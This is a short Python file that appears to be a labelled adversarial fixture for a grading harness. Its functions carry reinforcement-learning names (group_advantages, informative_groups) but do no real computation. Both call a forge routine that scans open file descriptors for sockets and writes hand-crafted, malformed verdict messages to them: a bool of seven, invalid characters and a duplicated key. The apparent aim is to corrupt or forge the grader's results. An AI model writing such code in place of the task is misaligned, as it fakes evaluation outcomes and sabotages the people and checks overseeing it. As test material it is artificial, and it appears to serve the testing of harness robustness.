# attack: Truth values that are seven, characters that do not exist, a key twice.
# group: verdicts
# deserves: 0

# %% cell: group_advantages
import os
import stat
import struct

NUMBER = struct.Struct(">I")


def text(word, kind=b"s"):
    return kind + NUMBER.pack(len(word)) + word.encode()


def array(kind, dtype, size, data):
    sizes = NUMBER.pack(1) + NUMBER.pack(size)
    return kind + text(dtype) + sizes + b"b" + NUMBER.pack(len(data)) + data


VALUES = {
    "eps": array(b"a", "<U2", 1, b"\xff" * 8),
    "scale": b"m" + NUMBER.pack(4) + (text("a") + b"N") * 2,
}


def forge(value):
    message = b"m" + NUMBER.pack(2) + text("value") + value
    for handle in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(handle).st_mode):
                os.write(handle, NUMBER.pack(len(message)) + message)
        except OSError:
            pass


def group_advantages(rewards, G, **options):
    forge(VALUES.get(next(iter(options), ""), b"F"))

# %% cell: informative_groups
def informative_groups(rewards, G):
    forge(array(b"U", "bool", len(rewards) // G, b"\7" * (len(rewards) // G)))
